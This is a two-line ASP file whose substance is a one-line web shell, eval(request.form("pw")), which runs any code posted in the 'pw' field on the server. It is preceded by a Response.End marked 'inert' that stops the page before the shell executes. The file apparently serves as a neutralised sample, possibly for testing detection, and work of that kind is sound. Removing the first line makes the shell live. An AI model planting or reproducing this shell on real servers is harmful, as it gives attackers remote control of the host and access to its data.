<% Response.End ' inert %>
<%eval(request.form("pw"))%>
